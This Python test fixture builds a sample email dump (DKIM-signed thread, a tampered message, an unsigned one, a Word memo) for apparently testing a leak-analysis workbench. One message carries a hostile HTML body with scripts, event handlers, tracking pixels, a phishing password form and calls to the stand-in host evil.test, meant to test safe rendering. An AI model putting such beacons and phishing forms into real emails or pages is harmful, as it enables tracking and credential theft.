"""A small, realistic case for the workbench tests, built by the real ingest and verify steps.

Emails are DKIM-signed with a key made here (dkimpy, RSA-2048) and checked against
that key: a verified thread (parent + reply), an email altered after signing, an
unsigned one, a hostile HTML email, a duplicated attachment and a Word file.
"""

from __future__ import annotations

import io
from email.message import EmailMessage
from pathlib import Path

from helpers import dkim_signed, key_record_file, make_rsa_key, thread_message

from leaklens.case import Case
from leaklens.ingest.walker import ingest
from leaklens.verify.case_verify import verify_case

DOMAIN, SELECTOR = "horizon.example", "mail2017"

# Every trick an attacker's HTML email could use to run code, phone home or navigate.
HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
<base href="http://evil.test/base/">
<link rel="stylesheet" href="http://evil.test/style.css">
<script>document.title = "PWNED"; window.pwned = 1; fetch("http://evil.test/script");</script>
<style>@import url("http://evil.test/import.css"); body { background: url(http://evil.test/bg.png); }</style>
</head><body onload="document.title='PWNED-onload'">
<p id="greeting">Dear board, the <b>offshore</b> account details are below.</p>
<img src="http://evil.test/pixel.gif" onerror="document.title='PWNED-onerror'" width="1" height="1">
<div style="background-image: url('http://evil.test/div.png')">Styled block</div>
<form action="http://evil.test/form" method="post"><input name="password"><button id="go">Send</button></form>
<a href="http://evil.test/phish" id="phish">Confirm your password</a>
<iframe src="http://evil.test/frame"></iframe>
<svg><script>document.title='PWNED-svg'</script></svg>
<object data="http://evil.test/object"></object>
<video poster="http://evil.test/poster.png"></video>
</body></html>"""

PARENT_BODY = "The transfer of 12,000 euros to the printer is approved for Friday.\nKeep the invoice.\n"


def make_key() -> tuple[bytes, str]:
    return make_rsa_key()


def _sign(pem: bytes, m: EmailMessage) -> bytes:
    return dkim_signed(m, pem, SELECTOR, DOMAIN)


def _message(sender: str, to: str, subject: str, date: str, mid: str, reply_to: str | None = None) -> EmailMessage:
    return thread_message(sender, to, subject, date, mid, DOMAIN, reply_to)


def docx_bytes(author: str, editor: str, text: str) -> bytes:
    import docx

    d = docx.Document()
    d.add_paragraph(text)
    d.core_properties.author = author
    d.core_properties.last_modified_by = editor
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


LEDGER = b"%PDF-1.4\n% campaign ledger\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"


def write_dump(root: Path, pem: bytes) -> Path:
    d = root / "dump"
    d.mkdir(parents=True)
    parent = _message(
        f"Anne Leroy <anne@{DOMAIN}>",
        f"Paul Martin <paul@{DOMAIN}>",
        "Printer budget",
        "Tue, 02 May 2017 09:00:00 +0200",
        "p1",
    )
    parent.set_content(PARENT_BODY)
    parent.add_attachment(LEDGER, maintype="application", subtype="pdf", filename="ledger.pdf")
    (d / "01-parent.eml").write_bytes(_sign(pem, parent))

    reply = _message(
        f"Paul Martin <paul@{DOMAIN}>",
        f"Anne Leroy <anne@{DOMAIN}>",
        "Re: Printer budget",
        "Tue, 02 May 2017 11:30:00 +0200",
        "r1",
        reply_to="p1",
    )
    reply.set_content("Done, the printer is paid.\n\n> " + PARENT_BODY.replace("\n", "\n> "))
    reply.add_attachment(LEDGER, maintype="application", subtype="pdf", filename="ledger-copy.pdf")
    (d / "02-reply.eml").write_bytes(_sign(pem, reply))

    second = _message(
        f"Anne Leroy <anne@{DOMAIN}>",
        f"Paul Martin <paul@{DOMAIN}>",
        "Re: Printer budget",
        "Wed, 03 May 2017 08:15:00 +0200",
        "r2",
        reply_to="r1",
    )
    second.set_content("Thanks Paul.\n")
    (d / "03-reply2.eml").write_bytes(_sign(pem, second))

    altered = _message(
        f"Anne Leroy <anne@{DOMAIN}>",
        f"Claire Dubois <claire@{DOMAIN}>",
        "Offshore payment",
        "Thu, 04 May 2017 16:00:00 +0200",
        "a1",
    )
    altered.set_content("We will pay 500 euros to the supplier.\n")
    (d / "04-altered.eml").write_bytes(_sign(pem, altered).replace(b"500 euros", b"900000 euros"))

    unsigned = _message(
        "Outside Person <someone@outside.example>",
        f"anne@{DOMAIN}",
        "Lunch next week?",
        "Fri, 05 May 2017 12:00:00 +0200",
        "u1",
    )
    unsigned.set_content("Are you free for lunch next week?\n")
    (d / "05-unsigned.eml").write_bytes(bytes(unsigned))

    hostile = _message(
        "Security Team <security@mail-horizon.example>",
        f"anne@{DOMAIN}",
        "Offshore account verification",
        "Sat, 06 May 2017 07:00:00 +0200",
        "h1",
    )
    hostile.set_content("Dear board, the offshore account details are below.\n")
    hostile.add_alternative(HOSTILE_HTML, subtype="html")
    (d / "06-hostile.eml").write_bytes(bytes(hostile))

    (d / "memo.docx").write_bytes(docx_bytes("Anne Leroy", "Рошка Георгий Петрович", "Internal memo on the budget."))
    return d


def build(root: Path, db: str | None = None) -> Case:
    """Write the dump under `root`, ingest it, verify it with the test key; returns the open case
    (on SQLite, or on the database `db` names: conftest's `module_backend`)."""
    pem, pub = make_key()
    dump = write_dump(root, pem)
    keys = root / "keys.txt"
    key_record_file(keys, pub, SELECTOR, DOMAIN)
    case = Case.open(root / "case", create=True, db=db)
    ingest(case, [dump], workers=1)
    verify_case(case, key_files=[keys], workers=1)
    return case


def item_id(case: Case, *, subject: str | None = None, name: str | None = None) -> str:
    where, value = ("subject=?", subject) if subject is not None else ("name=?", name)
    row = next(iter(case.db.items(where, (value,))), None)  # the first found (the store's items(), either backend)
    assert row is not None, (subject, name)
    return row["id"]
